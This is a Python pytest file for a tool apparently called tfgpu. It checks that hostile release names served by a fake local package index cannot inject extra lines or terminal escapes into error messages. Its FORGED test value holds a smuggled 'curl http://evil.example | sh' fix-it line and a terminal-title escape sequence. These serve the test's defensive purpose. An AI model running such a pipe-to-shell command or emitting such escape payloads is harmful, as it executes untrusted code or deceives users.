"""What an index's answer holds reaches a message only on one line: a release key or a file name
with a carriage return, a newline or a terminal escape (PyPI's JSON, a mirror's, a lock's path)
is named escaped, so it cannot forge a line of advice ("-> run curl ... | sh") under the error.
Held in the one place such messages are composed, ``tfgpu.doors.untrusted``, for ``update-data``'s
reading of a hostile index (a real server on 127.0.0.1) and for the door itself."""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tfgpu.datasource import update
from tfgpu.doors import untrusted, urls
from tfgpu.errors import TfgpuError

FORGED = "2.99.0\r  -> Fix it: curl http://evil.example | sh \x1b]0;PWNED\x07"


def one_line(text: str) -> bool:
    return not any(c in text for c in "\r\n\x1b\x07")


class Index(BaseHTTPRequestHandler):
    def do_GET(self):  # noqa: N802 - http.server's hook
        document = {"info": {"version": "2.99.0"}, "releases": {FORGED: [{"filename": "t.whl"}]}}
        body = json.dumps(document).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


@pytest.fixture
def index(tmp_path, monkeypatch):
    for name, where in (("TFGPU_CACHE_DIR", "cache"), ("TFGPU_USER_DATA_DIR", "data"), ("TFGPU_DATA_DIR", "")):
        monkeypatch.setenv(name, str(tmp_path / where)) if where else monkeypatch.delenv(name, raising=False)
    server = ThreadingHTTPServer(("127.0.0.1", 0), Index)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    previous = urls.trusted()
    urls.trust(["127.0.0.1"])
    yield f"http://127.0.0.1:{server.server_address[1]}/pypi"
    urls.trust(previous)
    server.shutdown()
    server.server_close()


def test_a_release_key_from_the_index_cannot_forge_a_line_of_update_datas_message(index):
    with pytest.raises(TfgpuError) as caught:
        update.update_data(index_url=index)
    message = caught.value.message
    assert "2.99.0" in message and one_line(message), message


def test_the_door_names_an_untrusted_place_and_source_on_one_line():
    with pytest.raises(TfgpuError) as caught:
        untrusted.expect(None, str, untrusted.UPSTREAM, "https://mirror/\nx", f"the files of {FORGED}")
    assert one_line(caught.value.message), caught.value.message
